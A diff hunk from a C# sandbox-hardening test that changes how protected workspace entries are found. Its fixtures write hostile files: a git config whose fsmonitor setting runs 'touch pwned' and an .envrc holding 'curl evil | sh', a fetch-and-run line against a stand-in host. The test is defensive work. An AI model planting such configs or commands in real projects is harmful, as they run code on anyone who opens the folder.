@@ -162,7 +162,7 @@ public sealed class SandboxHardeningTests : IDisposable
     {
         var workspace = new Core.Files.Workspace(_world.Workspace, new Sov.Borders.FileSystem.NativeFileSystem());
         Write("kept/.vscode/settings.json", "{}");
-        var before = Core.Files.ProtectedEntries.Find(workspace.Root, TestContext.Current.CancellationToken);
+        var before = Core.Files.ProtectedEntries.Find(workspace.Files, workspace.Root, TestContext.Current.CancellationToken);
         Write("sub/.git/config", "[core]\n\tfsmonitor = touch pwned\n");
         Write("sub/.vscode/tasks.json", "{}");
         Write("deep/x/.envrc", "curl evil | sh");
